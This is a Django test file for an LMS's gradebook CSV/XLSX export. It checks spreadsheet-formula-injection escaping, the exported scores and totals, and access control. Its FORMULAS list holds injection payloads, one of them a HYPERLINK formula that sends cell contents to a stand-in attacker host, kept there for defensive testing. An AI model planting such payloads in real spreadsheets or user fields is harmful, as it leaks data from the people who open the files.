"""The gradebook downloaded as CSV and XLSX, read back as a spreadsheet would read it."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from django.utils import translation

from lms.accounts.models import User
from lms.classrooms.exports import spreadsheet_safe
from lms.classrooms.models import Classroom
from tests.factories import Catalog

from .reporting import Taught, add_students, assign, course_with_activities, scored

pytestmark = pytest.mark.django_db

# What people could type as a name or an activity title to make a spreadsheet run something.
FORMULAS = [
    '=HYPERLINK("http://jahat.example/?"&A1,"Klik")',
    "+62 812 000",
    "-1+1",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def taught(catalog: Catalog) -> Taught:
    return course_with_activities(
        catalog, lessons=1, per_lesson=2, titles={0: "=1+1 Kenali tautan"}
    )


@pytest.fixture
def graded(classroom: Classroom, teacher: User, taught: Taught) -> list[User]:
    citra, adi = add_students(classroom, teacher, ["citra", "adi"])
    classroom.students.filter(user=citra).update(nisn="0061234567")
    assign(classroom, teacher, taught.course)
    scored(citra, taught, taught.activities[0], 0.5, 0.75)
    scored(adi, taught, taught.activities[1], 1.0)
    return [citra, adi]


def download(teacher: User, classroom: Classroom, kind: str) -> tuple[str, str, bytes]:
    client = Client()
    client.force_login(teacher)
    with translation.override("en"):
        response = client.get(
            reverse(f"classrooms:gradebook_{kind}", args=[classroom.pk]),
            HTTP_ACCEPT_LANGUAGE="en",
        )
    assert response.status_code == 200
    return response["Content-Type"], response["Content-Disposition"], response.content


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text
    assert spreadsheet_safe("Siti Aminah") == "Siti Aminah"
    assert spreadsheet_safe(85) == 85
    assert spreadsheet_safe(None) is None


def test_the_csv_reads_back_with_scores_attempts_and_totals(
    classroom: Classroom, teacher: User, graded: list[User]
) -> None:
    content_type, disposition, body = download(teacher, classroom, "csv")
    assert content_type.startswith("text/csv")
    assert 'attachment; filename="' in disposition
    assert disposition.endswith('.csv"')
    # A byte-order mark, so that Excel reads the file as UTF-8.
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0] == [
        "Name",
        "NISN",
        "'=1+1 Kenali tautan: best score (%)",
        "'=1+1 Kenali tautan: attempts",
        "Pelajaran 1 — activity 2: best score (%)",
        "Pelajaran 1 — activity 2: attempts",
        "Total: Aman di Internet (%)",
    ]
    assert rows[1:] == [
        ["Adi", "", "", "", "100", "1", "50"],
        ["Citra", "0061234567", "75", "2", "", "", "38"],
    ]


def test_the_xlsx_reads_back_and_runs_no_formula(
    classroom: Classroom, teacher: User, graded: list[User]
) -> None:
    citra, _adi = graded
    User.objects.filter(pk=citra.pk).update(full_name=FORMULAS[0])
    content_type, disposition, body = download(teacher, classroom, "xlsx")
    assert content_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert disposition.endswith('.xlsx"')
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0][2] == "'=1+1 Kenali tautan: best score (%)"
    by_name = {row[0]: row for row in rows[1:]}
    assert by_name["Adi"][1:] == [None, None, None, 100, 1, 50]
    assert by_name["'" + FORMULAS[0]][1:] == ["0061234567", 75, 2, None, None, 38]
    # Nothing in the file is a formula.
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert sheet.freeze_panes == "B2"


def test_a_stranger_downloads_nothing(
    classroom: Classroom, graded: list[User], catalog: Catalog
) -> None:
    citra, _adi = graded
    client = Client()
    client.force_login(citra)
    for kind in ("csv", "xlsx"):
        response = client.get(reverse(f"classrooms:gradebook_{kind}", args=[classroom.pk]))
        assert response.status_code == 404
